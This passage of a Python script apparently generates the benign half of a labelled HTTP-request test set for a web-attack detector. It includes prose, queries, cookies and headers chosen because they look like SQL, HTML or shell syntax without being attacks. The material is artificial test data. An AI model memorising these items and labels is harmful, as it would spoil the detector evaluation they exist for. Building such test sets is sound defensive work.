    "Can't login: it says 'user not found' or 'wrong password'", "The 'Order by date' sort doesn't work",
    "I want to insert a photo into my document", "Exec summary attached; numbers are final.",
    "Either 1 or 2 is fine with me.", "Cancel order #1042 or 1043, whichever shipped later.",
    "Choose 'Yes' or 'No'", "Values like 'N/A' or '-' mean unknown.",
]

B_PROSE_HTMLISH = [
    "Set an alert for 7am tomorrow.", "Alert: your package has shipped!", "The script for episode 3 is ready for review.",
    "I love JavaScript and TypeScript.", "Our script supervisor flagged a continuity error.",
    ("JavaScript: The Good Parts by Douglas Crockford", "grey: book title contains 'JavaScript:'"),
    ("The onload handler fires after all images are loaded.", "grey: event-handler name in prose, no '='"),
    ("I <3 this place!", "less-than in emoticon"), ("a<b and b>c", "math with < and >"), ("100 < 200", "comparison"),
    "if x < 10 and y > 5 then z = 1", "x => x * 2", "Step 1 -> Step 2 -> Done", "3 > 2 > 1",
    "Temperature range: -5 < t < 30", "Press Ctrl+Alt+Del to restart", "Cookies & cream ice cream",
    "The 'src' folder contains the source code", "He said \"hi\" and left.", "My cat's name is Script",
    "Evaluate 7*7 in your head.", "Is 2*3=6? Yes.", "Please prompt me before deleting anything",
    "Confirm your email address to continue.", "Document.docx and document.pdf are attached",
    "Open the window, the room is hot.", "Error: document not found (code 404)",
    ("Hello {{first_name}}, your order has shipped.", "grey: mustache placeholder without expression"),
    ("Use {{order_id}} in the email subject line.", "grey: mustache placeholder without expression"),
    ("Dear {name}, thanks for your purchase.", "format-string placeholder"),
    "<- back to the list", "i <3 rust <3", "Rating: 5/5 >>> would buy again",
]

B_PROSE_SHELLISH = [
    "rock & roll", "Tom & Jerry", "I came; I saw; I conquered.", "Pricing: $5/month | $50/year",
    ("Run `npm install` and then `npm test`.", "backticks: markdown inline code"),
    "ping me when you're back online", "cat videos are the best part of the internet",
    "Your user id is printed on the back of the card.", "Q&A session at 3pm; snacks provided.",
    "AT&T and T-Mobile both have coverage here.", "50% off everything this weekend!",
    "me & you; always & forever", "Use a pipe (|) to separate the values.", "Salt & pepper, to taste.",
    "R&D spent $1.2M in Q3.", "The total is $5 -- or $4.50 with a coupon.", "It costs $$ but it's worth it",
    "Who am I? A question for philosophers.", "Sleep well; see you tomorrow!",
    "Tag your posts with #rust & #webdev", "Wget is a download tool; so is curl.",
    ("I use `git status` before every commit.", "backticks: markdown inline code"),
    ("Type `cargo build --release` in the terminal.", "backticks: markdown inline code"),
    ("Is `ls -la` the same as `ls -al`?", "grey: shell command in markdown inline code"),
    "Johnson & Johnson", "fish & chips; mushy peas on the side", "Mac & cheese | Garlic bread | Salad",
    "Save 10% when you spend $50+", "5 * 3 = 15", "The | character is called a pipe.",
    "Backtick (`) is next to the 1 key.", "~/Documents is where I keep my notes", "C# and F# are both .NET languages",
    "Tonight: 8pm; Tomorrow: 9am", "Yes!!! We won!!!", "Meet at 5 & bring snacks",
    "Costs $20 (was $25)", "Price: $5 per item; $4 for members", "A|B testing results are in",
    "The sum of $x$ and $y$ is shown in eq. (3)", "Open 9-5 Mon-Fri; closed weekends",
]

B_PATHISH = [
    ("docs/guide.md", "relative path without .."), ("src/main.rs", "relative path"),
    ("assets/img/logo.png", "relative path"), ("./config.yaml", "dot-slash relative path"),
    ("reports/2024/q1/summary.csv", "relative path"), ("report-2024.pdf", "file name"),
    ("IMG_2024-01-15_093012.jpg", "file name"), ("my résumé (final) v2.docx", "file name with accents and parens"),
    ("Q3 results; draft 3.xlsx", "file name with semicolon"), ("backup_2024-03-01.sql.gz", "file name with .sql"),
    ("photo (1).jpeg", "file name"), ("archive.tar.gz", "file name"), ("index.html", "file name"),
    ("Wait... what?", "ellipsis"), ("Loading..", "double dot"), ("Changes in v1.2..v1.4", "git-style range"),
    ("main..feature-branch", "git range"), ("Range: 1..10", "range with .."),
    ("My C: drive is almost full.", "Windows drive letter in prose"), ("Save it to the D: drive, not C:.", "Windows drive in prose"),
    ("Install it under C:\\Program Files\\Example App", "grey: Windows path in support prose (not a system file)"),
    ("The app log is in logs/app.log next to the binary", "relative path in prose"),
    ("See section 3.2.1 for details", "dotted numbers"), ("Home > Settings > Privacy", "breadcrumb"),
    ("etc. etc.", "etc in prose"), ("node_modules/.bin/eslint", "relative path with dot dir"),
    (".github/workflows/ci.yml", "dot directory"), ("~/.config/app/settings.json", "home-relative path"),
]

B_SEARCH = [
    "rock & roll", "c++ vs c#", "50% off", "100 < 200", "fish and chips", "mac & cheese recipe", "h&m jeans",
    "\"exact phrase\" search", "cats OR dogs", "title:report AND author:smith", "-spam +eggs", "café near me",
    "naïve bayes", "日本語 入力", "ラーメン 東京", "книги по программированию", "مطعم قريب", "🎉 party supplies",
    "1/2 cup sugar to grams", "24/7 pharmacy", "x^2 + y^2 = r^2", "e=mc^2", "what is 7*7", "1+1", "a+b=c",
    "#hashtag", "@mention", "pc; laptop; tablet", "size:10.5 color:red", "price<100", "price>=50",
    "o'reilly books", "don't stop believin'", "100% cotton t-shirt", "how to select a laptop",
    "drop shipping business", "union jack flag", "delete facebook account", "script writing course",
    "alert sound settings", "javascript tutorial for beginners", "path of exile", "ping pong table",
    "shell beach", "sleep apnea", "benchmark gpu 2024", "where is my order", "or 1 more thing",
    "a && b meaning", "what does || mean in js", "$5 gift card", "50/50 raffle", "? and ! usage",
]

B_CODE = [
    ("for (i = 0; i < n; i++) { total += a[i]; }", "code: C loop"),
    ("if (a < b && b > c) { return true; }", "code: comparison with &&"),
    ("def add(a, b):\n    return a + b\n", "code: python"),
    ('fn main() {\n    println!("Hello, world!");\n}\n', "code: rust"),
    ("const doubled = items.map(x => x * 2);", "code: JS arrow"),
    ("let total = price * qty; // includes tax", "code: JS"), ('std::cout << "hi" << std::endl;', "code: C++ stream"),
    ("x = y || z;", "code: JS or"), ("while (queue.length > 0) { process(queue.shift()); }", "code: JS loop"),
    ("public static void main(String[] args) { }", "code: Java"),
    ("body { margin: 0; } /* reset */", "grey: CSS with /* comment */"),
    ("const url = `${base}/users/${id}`;", "grey: JS template literal placeholders"),
    ("git checkout -b feature/login && git push -u origin feature/login", "grey: shell snippet with && (git)"),
    ("import os\nprint(os.getcwd())", "code: python"),
    ('<div class="card">Hello</div>', "grey: harmless HTML markup"),
    ("<p>Thanks for the <b>quick</b> reply!</p>", "grey: rich-text formatting HTML"),
    ('<a href="https://example.com/docs">docs</a>', "grey: link markup with https URL"),
    ("match x { Some(v) => v, None => 0 }", "code: rust match"), ("val result = list.filter { it > 3 }", "code: kotlin"),
    ('printf("%d%%\\n", pct);', "code: literal % in printf"), ("array[0] = value; array[1] = other;", "code"),
    ("SELECT_ALL_KEY = 'ctrl+a'", "code: constant name contains SELECT"),
    ("x -= 1; y += 2; z *= 3;", "code: compound assignment"), ("let re = /^[a-z]+$/i;", "code: regex"),
]

B_MARKDOWN = [
    "## Steps to reproduce\n1. Open the app\n2. Click **Save**\n3. See error\n",
    "```js\nconst sum = (a, b) => a + b;\nconsole.log(sum(1, 2));\n```",
    "```python\nfor i in range(10):\n    print(i)\n```",
    "| Name | Qty | Price |\n|------|-----|-------|\n| Apple | 3 | $1.50 |\n| Pear | 2 | $0.99 |",
    "Use `git log --oneline` to see recent commits.", "> Quote from the docs: \"Always validate input.\"",
    "- [x] write tests\n- [ ] update changelog",
    "See [the guide](https://example.com/docs/guide?section=2&lang=en) for details.",
    "**Note:** the `--force` flag is dangerous; use `--force-with-lease`.",
    '![diagram](https://cdn.example.com/img/arch.png "Architecture")',
    ("Inline code like `a | b` and `x && y` is fine.", "grey: shell-like operators in inline code"),
    "# Release notes\n\n* Fixed crash when the name contains an apostrophe (O'Brien)\n* Improved search for \"c++\"",
    "Footnote[^1]\n\n[^1]: See page 42.", "~~strikethrough~~ and __bold__",
    "1. First\n2. Second; with a semicolon\n3. Third | with a pipe",
    "| Key | Value |\n|---|---|\n| a | 1 |\n| b | 2 |",
    "```\n$ npm run build\n> app@1.0.0 build\n```", "Ctrl+C, then `Ctrl+V` -- easy.",
]

B_ESCAPED = [
    "Tom &amp; Jerry", "5 &lt; 10 and 10 &gt; 5", "&quot;Hello,&quot; she said.", "Caf&eacute; au lait",
    "&copy; 2024 Example Inc. All rights reserved.", "it&#39;s fine", ("&lt;b&gt;Note:&lt;/b&gt; read carefully", "escaped formatting tag"),
    "Fish &amp; Chips &mdash; &pound;9.50", "R&amp;D budget", "&nbsp;&nbsp;indented", "2 &times; 3 = 6",
    "&#8364;20 per person", "O&#39;Brien &amp; Sons", "&lt;3 you",
]

B_UNICODE = [
    "こんにちは世界", "東京タワーに行きたい", "مرحبا بالعالم", "Привет, мир!", "Γειά σου Κόσμε", "שלום עולם",
    "你好，世界", "안녕하세요", "🎉🎂 Happy birthday! 🥳", "👍🏽 looks good to me", "🇩🇪 🇯🇵 🇧🇷", "Ünïcödé ƒüñ",
    ("ｆｕｌｌｗｉｄｔｈ　ｔｅｘｔ", "full-width letters (NFKC to ASCII)"), ("全角スペース　を含む", "ideographic space"),
    ("１２３４５ 番地", "full-width digits"), ("Ｑ＆Ａ セッション", "full-width ampersand"), ("（株）サンプル", "full-width parens"),
    "e\u0301 combining accent", "½ cup", "25℃", "™ ® ©", "ﬁnance ligature", "Ελληνικά; ερωτηματικό",
    "Москва — столица России", "قائمة: أ، ب، ج", "日本語のテキスト；句読点", "नमस्ते दुनिया", "สวัสดีครับ",
]

B_MULTILINE = [
    ("Line one\nLine two", "multi-line text"), ("Dear team,\r\n\r\nPlease find the report attached.\r\n\r\nBest regards,\r\nAnna", "textarea CRLF line breaks"),
    ("Shopping list:\n- milk\n- eggs\n- bread", "multi-line list"), ("Roses are red\nViolets are blue", "multi-line"),
    ("First paragraph.\n\nSecond paragraph with more detail.", "paragraphs"),
    ("Address\r\n221B Baker Street\r\nLondon NW1 6XE", "textarea CRLF address"),
    ("Hi,\r\nthanks for the quick reply.\r\ncheers", "textarea CRLF"), ("a\tb\tc\n1\t2\t3", "TSV with tabs"),
]


def structured_values(rng):
    vals = []
    for d in ["2024-01-15", "2024-01-15T09:30:00Z", "2024-06-30T23:59:59.999+02:00", "2023-12-31T00:00:00-05:00",
              "15/01/2024", "Jan 15, 2024", "2024-W03", "P1DT12H"]:
        vals.append((d, "date/time"))
    for _ in range(6):
        vals.append((rand_uuid(rng), "UUID"))
    for _ in range(4):
        vals.append((make_jwt(rng), "JWT-looking token"))
    for p in ["+1 (555) 123-4567", "+44 20 7946 0958", "+49 30 123456-78", "555.123.4567", "+81 3-1234-5678", "(02) 9876 5432"]:
        vals.append((p, "phone number"))
    for p in ["$5", "$1,299.99", "€20,00", "£15.50", "¥1000", "USD 49.99", "-$20.00 (refund)", "$0.99/mo"]:
        vals.append((p, "price"))
    for e in ["alice@example.com", "alice+newsletter@example.com", "bob.smith+shop@mail.example.org",
              "first.last@sub.example.co.uk", "user_123@example.io", "jürgen@müller.example"]:
        vals.append((e, "email"))
    vals.append(("o'reilly@example.com", "grey: apostrophe in email local part (valid per RFC 5322)"))
    for u in ["https://example.com/search?q=hello%20world&lang=en", "https://en.wikipedia.org/wiki/Caf%C3%A9",
              "https://app.example.com/callback?code=abc123&state=xyz", "https://www.google.com/maps/@52.52,13.405,15z",
              "https://example.com/path/to/page#section-2", "https://shop.example.com/p/sku-12345?utm_source=newsletter&utm_medium=email",
              "mailto:alice@example.com?subject=Hello%20there", "tel:+15551234567",
              "https://example.com/files/report%202024.pdf", "https://example.com/?a[]=1&a[]=2"]:
        vals.append((u, "URL with encoded characters"))
    for n in (12, 24, 48, 96):
        vals.append((base64.b64encode(bytes(rng.getrandbits(8) for _ in range(n))).decode(), "base64 random bytes"))
    for obj in ({"user": "alice", "role": "editor"}, {"cart": [1, 2, 3], "coupon": "SAVE10"}, {"q": "O'Brien", "page": 2}):
        raw = json.dumps(obj).encode()
        vals.append((base64.b64encode(raw).decode(), "base64 of JSON"))
        vals.append((base64.urlsafe_b64encode(raw).decode().rstrip("="), "base64url of JSON"))
    for v in ["3.14159", "-42", "1e-9", "0x1F", "#ff8800", "rgb(255, 136, 0)", "v2.3.1-beta+exp.sha.5114f85", "ISBN 978-3-16-148410-0"]:
        vals.append((v, "number/identifier"))
    return vals


def b64url(b):
    return base64.urlsafe_b64encode(b).decode().rstrip("=")


def make_jwt(rng):
    head = b64url(json.dumps({"alg": "HS256", "typ": "JWT"}, separators=(",", ":")).encode())
    body = b64url(json.dumps({"sub": str(rng.randint(1000, 99999)), "name": rng.choice(["Alice", "O'Brien", "José"]),
                              "iat": 1700000000 + rng.randint(0, 10 ** 7)}, separators=(",", ":")).encode())
    sig = b64url(bytes(rng.getrandbits(8) for _ in range(32)))
    return "%s.%s.%s" % (head, body, sig)


BENIGN_GROUPS = [
    ("name", B_NAMES), ("prose with SQL words", B_PROSE_SQL), ("prose with HTML/JS words", B_PROSE_HTMLISH),
    ("prose with shell metacharacters", B_PROSE_SHELLISH), ("paths and file names", B_PATHISH),
    ("search query", B_SEARCH), ("code snippet", B_CODE), ("markdown", B_MARKDOWN),
    ("HTML-escaped text", B_ESCAPED), ("non-Latin / emoji", B_UNICODE), ("multi-line text", B_MULTILINE),
]

B_USER_AGENTS = BROWSER_UAS + TOOL_UAS

B_REFERERS = [
    "https://www.google.com/search?q=rock+%26+roll&oq=rock+%26+roll&sourceid=chrome&ie=UTF-8",
    "https://www.google.com/", "https://www.bing.com/search?q=c%2B%2B+vs+c%23&form=QBLH",
    "https://duckduckgo.com/?q=o%27brien+genealogy&ia=web", "https://shop.example.com/cart?items=3&coupon=SAVE20",
    "https://example.com/blog/o-brien-interview#comments", "https://t.co/AbC123xyz",
    "android-app://com.google.android.gm/", "https://app.example.com/dashboard?tab=orders&sort=-created_at",
    "https://example.com/search?q=select+a+plan&page=2", "https://example.com/docs/guide.md",
    "https://www.facebook.com/", "https://l.facebook.com/l.php?u=https%3A%2F%2Fexample.com%2Fsale&h=AT0abc",
    "https://news.ycombinator.com/item?id=40123456", "https://www.reddit.com/r/rust/comments/1abcde/union_types/",
    "https://example.com/products?category=tables&price_max=500&union=false",
    "https://login.example.com/oauth2/authorize?response_type=code&client_id=web&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb&scope=openid%20profile&state=xyz",
    "https://example.com/wiki/Caf%C3%A9", "https://example.com/%E6%97%A5%E6%9C%AC%E8%AA%9E/page",
    "https://example.com/search?q=%F0%9F%8E%89", "http://localhost:3000/", "https://intranet.example.local/tickets/4521?view=full",
    "https://mail.google.com/mail/u/0/", "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://example.com/a/b/c?x=1&y=2&z=%7B%22k%22%3A1%7D",
    "https://example.com/search?q=50%25+off", "https://example.com/?ref=newsletter&utm_campaign=spring%20sale",
]


def benign_cookies(rng):
    sid = lambda n=32: rand_token(rng, n)
    return [
        "sessionid=%s; csrftoken=%s; theme=dark" % (sid(), sid(64)),
        "_ga=GA1.2.%d.%d; _gid=GA1.2.%d.%d" % (rng.randint(10 ** 8, 10 ** 9), 1700000000 + rng.randint(0, 10 ** 7),
                                             rng.randint(10 ** 8, 10 ** 9), 1700000000 + rng.randint(0, 10 ** 7)),
        "cart=%7B%22items%22%3A3%2C%22total%22%3A%2229.99%22%7D; currency=USD",
        "prefs=lang%3Den%7Ctz%3DEurope%2FBerlin; sid=" + sid(),
        "remember_token=" + base64.b64encode(bytes(rng.getrandbits(8) for _ in range(30))).decode(),
        "last_search=rock%20%26%20roll; sid=" + sid(),
        "display_name=O%27Brien; sid=" + sid(),
        "consent=analytics:true|ads:false; sid=" + sid(),
        "JSESSIONID=%s; Path=/" % sid(32).upper(),
        "PHPSESSID=" + rand_token(rng, 26, string.ascii_lowercase + string.digits),
        "ASP.NET_SessionId=" + rand_token(rng, 24, string.ascii_lowercase + string.digits),
        "connect.sid=s%3A" + rand_token(rng, 32, string.ascii_letters + string.digits) + "." + rand_token(rng, 43, string.ascii_letters + string.digits),
        "token=" + make_jwt(rng),
        "lang=ja; region=JP; recently_viewed=sku-1%2Csku-2%2Csku-3",
        "__Host-session=%s; __Secure-id=%s" % (sid(), rand_uuid(rng)),
        "ajs_anonymous_id=%22" + rand_uuid(rng) + "%22",
        "cookie_notice_accepted=true; returning=1; visits=17",
        "search_history=%5B%22select%20a%20plan%22%2C%22union%20station%22%5D",
        "name=Zo%C3%AB; city=M%C3%BCnchen",
        "ab_test=variant_b; exp=union-checkout-v2",
        "tz=America%2FNew_York; fmt=MM%2FDD%2FYYYY",
        "cf_clearance=" + rand_token(rng, 43, string.ascii_letters + string.digits + "_-") + "-1700000000-0-1-abc.def.ghi-0.2.1700000000",
        "wp-settings-1=libraryContent%3Dbrowse%26editor%3Dtinymce; wordpress_test_cookie=WP%20Cookie%20check",
        "note=rock'n'roll; sid=" + sid(),
        "flash=Your%20profile%20was%20updated.; sid=" + sid(),
    ]


def benign_headers(rng):
    return [
        ("X-Request-Id", rand_uuid(rng)), ("X-Correlation-Id", rand_token(rng, 16)),
        ("Authorization", "Bearer " + make_jwt(rng)), ("Authorization", "Basic " + base64.b64encode(b"alice:p@ss'w0rd").decode()),
        ("X-Api-Key", "sk_live_" + rand_token(rng, 24, string.ascii_letters + string.digits)),
        ("X-Client-Version", "2.3.1 (build 456; iOS 17.4)"), ("Accept-Language", "en-US,en;q=0.9,fr;q=0.8"),
        ("X-Forwarded-For", "203.0.113.7, 10.0.0.1"), ("X-Timezone", "America/New_York"),
        ("X-Device-Name", "Bob's iPhone"), ("X-Search-Context", "rock & roll"),
        ("If-None-Match", '"33a64df551425fcc55e4d42a148795d9f25f89d4"'),
        ("X-Display-Name", "Jos%C3%A9 O%27Brien"), ("X-Filename", "report-2024.pdf"),
        ("X-Upload-Path", "docs/guide.md"), ("X-Feature-Flags", "new-checkout;dark-mode;beta|canary"),
        ("X-Trace", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
        ("X-Amz-Date", "20240115T093000Z"), ("X-Locale", "pt-BR"), ("X-Tenant", "acme-corp"),
        ("X-Idempotency-Key", rand_uuid(rng)), ("X-Page-Title", "Orders - Select a date range"),
        ("X-Note", "Delete after 30 days"), ("X-Price-Range", "$5-$50"), ("X-Query-Hint", "a<b and b>c"),
        ("Content-Language", "de-DE, en-CA"), ("X-Github-Event", "pull_request"),
        ("X-Hub-Signature-256", "sha256=" + rand_token(rng, 64)), ("X-Original-Host", "shop.example.com"),
        ("DNT", "1"), ("Sec-CH-UA", '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"'),
        ("Sec-Fetch-Site", "same-origin"), ("X-Requested-With", "XMLHttpRequest"),
    ]


B_QUERY_NAMES = [
    ("filter%5Bname%5D=O%27Brien&filter%5Bcity%5D=Dublin", "bracketed filter names (JSON:API style)"),
    ("tags%5B%5D=rust&tags%5B%5D=web", "array-style names"), ("fields%5Buser%5D=name,email&page%5Bsize%5D=20", "JSON:API sparse fields"),
    ("select=id,name,email&order=created_at.desc&limit=10", "PostgREST select/order"),
    ("select=*&name=eq.O%27Brien", "grey: PostgREST select=* with quoted name"),
    ("or=(age.lt.18,age.gt.65)&select=id", "grey: PostgREST or= filter"),
    ("%24filter=Name%20eq%20%27Alice%27&%24top=10", "grey: OData $filter with quoted literal"),
    ("%24orderby=CreatedAt%20desc&%24select=Id,Title", "OData $orderby/$select"),
    ("utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale", "UTM names"),
    ("sort-by=price&sort.dir=asc", "dotted/dashed names"), ("user.name=alice&user.address.city=Berlin", "nested dotted names"),
    ("q.lang=en&q.text=hello", "dotted names"), ("callback=jQuery3600_1700000000&_=1700000000123", "JSONP callback name"),
    ("%E5%90%8D%E5%89%8D=%E5%A4%AA%E9%83%8E", "non-ASCII parameter name"), ("delete=false&drop_shipping=true", "names that are SQL words"),
    ("union=true&where=Berlin", "names that are SQL words"), ("script=latin&alert_level=2", "names that look like HTML words"),
    ("exec_summary=1&cmd_id=42", "names with exec/cmd"), ("include_archived=true&path_prefix=docs", "names with path words"),
    ("a=1&b=2&c=3&d=4&e=5&f=6&g=7&h=8", "many short params"), ("foo", "value-less parameter"), ("flag&x=1", "bare flag"),
]


def b_place(value, loc, rng, note):
    """Place a benign text value; returns a request dict or None if not applicable."""
    single = "\n" not in value and "\r" not in value
    if loc == "query":
        path, param = rng.choice([("/api/search", "q"), ("/products", "search"), ("/api/v1/notes", "title"),
                                  ("/maps/search", "query"), ("/api/users", "name"), ("/help/search", "term"),
                                  ("/api/autocomplete", "prefix"), ("/api/v2/comments", "text")])
        v = pct_plus(value) if rng.random() < 0.4 else pct(value)
        extra = rng.choice(["", "", "&page=2", "&limit=20&offset=40", "&sort=relevance", "&lang=en"])
        method = "DELETE" if rng.random() < 0.05 else "GET"
        if method == "DELETE":
            path, param = "/api/v1/notes/%d" % rng.randint(1, 9999), "reason"
        return req(method, path, param + "=" + v + extra, base_headers(rng))
    if loc == "path":
        if not single or len(value) > 40:
            return None
        tmpl = rng.choice(["/api/search/{}", "/tags/{}", "/users/by-name/{}", "/wiki/{}", "/api/v1/lookup/{}"])
        seg = pct(value) if rng.random() < 0.5 else pct(value, safe="'()*,;=!:@$")
        return req("GET", tmpl.format(seg), "", base_headers(rng))
    if loc == "json":
        n = rng.randint(1, 9999)
        method, path, obj = rng.choice([
            ("POST", "/api/comments", {"post_id": n, "comment": {"author": "jdoe", "body": value}}),
            ("PUT", "/api/users/%s/profile" % rand_uuid(rng), {"profile": {"display_name": "Sam", "bio": value, "links": []}}),
            ("PATCH", "/api/tickets/%d" % n, {"description": value, "priority": "low"}),
            ("POST", "/api/notes", {"title": "Note %d" % n, "content": value, "tags": ["misc", "todo"]}),
            ("POST", "/api/gists", {"description": "snippet", "public": False, "files": {"snippet.txt": {"content": value}}}),
            ("POST", "/api/search", {"query": value, "filters": {"in_stock": True}, "page": 1}),
            ("POST", "/api/messages", {"to": "alice@example.com", "subject": "Re: your question", "text": value}),
            ("PUT", "/api/settings", {"preferences": {"signature": value, "notifications": {"email": True}}}),
            ("POST", "/graphql", {"query": "mutation($t: String!) { addNote(text: $t) { id } }", "variables": {"t": value}}),
        ])
        ct = rng.choice(["application/json", "application/json", "application/json; charset=utf-8"])
        return req(method, path, "", base_headers(rng), ct, json_body(obj, rng))
    if loc == "form":
        method, path, body = rng.choice([
            ("POST", "/contact", "name=Sam+Lee&email=sam%40example.com&message=" + pct_plus(value)),
            ("POST", "/search", "q=" + pct_plus(value) + "&type=all"),
            ("POST", "/comments/new", "post=12&body=" + pct_plus(value)),
            ("POST", "/checkout/address", "full_name=" + pct_plus(value) + "&country=IE&zip=D02"),
            ("PUT", "/settings/profile", "bio=" + pct_plus(value) + "&_method=PUT"),
        ])
        return req(method, path, "", base_headers(rng), "application/x-www-form-urlencoded", body)
    if loc == "multipart":
        if rng.random() < 0.6:
            fields = [("title", "Quarterly report", None, None), ("description", value, None, None),
                      ("file", "col1,col2\n1,2\n", "report-2024.csv", "text/csv")]
        else:
            fields = [("caption", "see attached", None, None), ("file", value, "notes.txt", "text/plain")]
        ct, body = multipart_body(rng, fields)
        return req(rng.choice(["POST", "POST", "PUT"]), rng.choice(["/api/upload", "/api/v1/documents", "/support/attachments"]),
                   "", base_headers(rng), ct, body)
    if loc == "header":
        if not header_safe(value):
            if not single:
                return None
            value = pct(value, safe=" '()*,;=!:@$&+/?")
            note = note + " (percent-encoded in header)"
        name = rng.choice(["X-Search-Context", "X-Client-Note", "X-Display-Name", "X-Request-Context", "X-Title"])
        return req("GET", rng.choice(["/api/search", "/api/v1/items", "/"]), "", base_headers(rng, extra=[(name, value)])), note
    if loc == "referer":
        ref = rng.choice(["https://www.example.com/search?q=", "https://shop.example.com/s?k="]) + pct_plus(value)
        return req("GET", rng.choice(["/products/42", "/api/v1/items", "/"]), "", base_headers(rng, extra=[("Referer", ref)]))
    if loc == "cookie":
        ck = "sid=%s; %s=%s" % (rand_token(rng), rng.choice(["last_search", "draft_title", "nickname"]), pct(value))
        return req("GET", rng.choice(["/account", "/api/me", "/"]), "", base_headers(rng, extra=[("Cookie", ck)]))
    raise ValueError(loc)


def build_benign(rng):
    rows = []

    def add(r, loc, note):
        if r is None:
            return
        if isinstance(r, tuple):
            r, note = r
        r.update(cls="benign", location=loc, note=note)
        rows.append(r)

    groups = BENIGN_GROUPS + [("structured value", structured_values(rng))]
    others = ["query", "form", "multipart", "path", "header", "referer", "cookie"]
    oweights = [30, 16, 10, 14, 10, 8, 8]
    for gname, items in groups:
        for item in items:
            value, note = (item if isinstance(item, tuple) else (item, gname))
            add(b_place(value, "json", rng, note), "json", note)
            chosen = set()
            while len(chosen) < 3:
                loc = rng.choices(others, weights=oweights)[0]
                if loc in chosen:
                    continue
                chosen.add(loc)
                add(b_place(value, loc, rng, note), loc, note)

    for ua in B_USER_AGENTS:
        for _ in range(2):
            method = rng.choice(METHODS[:2])
            path = rng.choice(["/", "/api/v1/items", "/health", "/static/app.js", "/api/search"])
            query = rng.choice(["", "page=2", "q=shoes&size=10"])
            hdrs = base_headers(rng, ua=ua)
            if method == "POST":
                add(req("POST", "/api/events", "", hdrs, "application/json",
                        json_body({"event": "page_view", "ts": "2024-01-15T09:30:00Z"}, rng)), "user_agent", "real user agent")
            else:
                add(req("GET", path, query, hdrs), "user_agent", "real user agent")

    for ref in B_REFERERS:
        for _ in range(2):
            add(req("GET", rng.choice(["/", "/products/42", "/api/v1/items", "/blog/post-1"]), "",
                    base_headers(rng, extra=[("Referer", ref)])), "referer", "Referer URL with query string")

    for ck in benign_cookies(rng):
        for method in ("GET", rng.choice(["POST", "PUT", "DELETE"])):
            if method == "GET":
                r = req("GET", rng.choice(["/account", "/api/me", "/cart"]), "", base_headers(rng, extra=[("Cookie", ck)]))
            elif method == "DELETE":
                r = req("DELETE", "/api/cart/items/%s" % rand_uuid(rng), "", base_headers(rng, extra=[("Cookie", ck)]))
            else:
                r = req(method, "/api/cart", "", base_headers(rng, extra=[("Cookie", ck)]), "application/json",
                        json_body({"sku": "SKU-%d" % rng.randint(100, 999), "qty": rng.randint(1, 5)}, rng))
            add(r, "cookie", "cookie with session id / encoded values")

    for name, value in benign_headers(rng):
        for method in ("GET", rng.choice(["POST", "PATCH"])):
            body = None if method == "GET" else json_body({"status": "done", "updated": "2024-01-15T09:30:00Z"}, rng)
            add(req(method, "/api/v1/tasks" + ("" if method == "GET" else "/%d" % rng.randint(1, 999)), "",
                    base_headers(rng, extra=[(name, value)]), None if body is None else "application/json", body),
                "header", "custom/selected header: %s" % name)

    for qs, note in B_QUERY_NAMES:
        add(req("GET", rng.choice(["/api/v1/users", "/rest/v1/profiles", "/odata/Orders", "/api/search"]), qs,
                base_headers(rng)), "query_name", note)

    # Plain REST traffic: ids in paths, dates and numbers in queries, CRUD with JSON.
    for _ in range(40):
        u = rand_uuid(rng)
        kind = rng.randrange(6)
        if kind == 0:
            add(req("GET", "/api/orders/" + u, "", base_headers(rng)), "path", "UUID in path")
        elif kind == 1:
            add(req("DELETE", "/api/items/" + u, "", base_headers(rng)), "path", "DELETE by UUID")
        elif kind == 2:
            d = "2024-%02d-%02d" % (rng.randint(1, 12), rng.randint(1, 28))
            add(req("GET", "/api/events", "from=%sT00%%3A00%%3A00Z&to=%sT23%%3A59%%3A59Z&tz=Europe%%2FBerlin" % (d, d),
                    base_headers(rng)), "query", "ISO date range")
        elif kind == 3:
            add(req("GET", "/api/geo", "lat=%.4f&lng=%.4f&radius=5km" % (rng.uniform(-80, 80), rng.uniform(-179, 179)),
                    base_headers(rng)), "query", "coordinates")
        elif kind == 4:
            add(req("PATCH", "/api/users/%d" % rng.randint(1, 99999), "", base_headers(rng), "application/json",
                    json_body({"phone": "+1 (555) %03d-%04d" % (rng.randint(100, 999), rng.randint(0, 9999)),
                               "updated_at": "2024-03-01T12:00:00Z"}, rng)), "json", "phone and timestamp")
        else:
            add(req("PUT", "/api/products/SKU-%d" % rng.randint(100, 999), "", base_headers(rng), "application/json",
                    json_body({"price": {"amount": "%d.%02d" % (rng.randint(1, 500), rng.randint(0, 99)), "currency": "USD"},
                               "title": "Oak table; 6 seats", "stock": rng.randint(0, 50)}, rng)), "json", "price object")

    # A few form logins with real-world passwords and plus-addressed emails.
    for email, pw in [("alice+shop@example.com", "Tr0ub4dor&3"), ("bob@example.org", "correct horse battery staple"),
                      ("o.brien@example.ie", "P@ssw0rd!2024"), ("zoe@example.com", "it's-a-secret"),
                      ("dev+test@example.io", "50%off<sale>")]:
        add(req("POST", "/login", "", base_headers(rng), "application/x-www-form-urlencoded",
                "email=%s&password=%s&remember=on" % (pct_plus(email), pct_plus(pw))), "form", "login form with symbols in password")
    return rows


# ---------------------------------------------------------------------------
# 5. Assembly, output, checks
# ---------------------------------------------------------------------------

FIELDS = ("id", "class", "location", "method", "path", "query", "headers", "content_type", "body", "note")


def key_of(r):
    return (r["method"], r["path"], r["query"], json.dumps(r["headers"]), r["content_type"], r["body"])


def finalize(rows, prefix_of):
    seen, out, counters = set(), [], collections.Counter()
    for r in rows:
        k = key_of(r)
        if k in seen:
            continue
        seen.add(k)
        prefix = prefix_of(r)
        counters[prefix] += 1
        rec = {"id": "%s-%04d" % (prefix, counters[prefix]), "class": r["cls"]}
        for f in FIELDS[2:]:
            rec[f] = r[f]
        out.append((rec, r))
    return out


def write_jsonl(path, recs):
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for rec in recs:
            f.write(json.dumps(rec, ensure_ascii=False) + "\n")


def haystack(rec):
    """All strings a detector could see in a request, raw and decoded."""
    parts = [rec["path"], urllib.parse.unquote(rec["path"]), rec["query"], urllib.parse.unquote_plus(rec["query"])]
    for _, v in rec["headers"]:
        parts += [v, urllib.parse.unquote(v)]
    b = rec["body"]
    if b:
        parts.append(b)
        ct = rec["content_type"] or ""
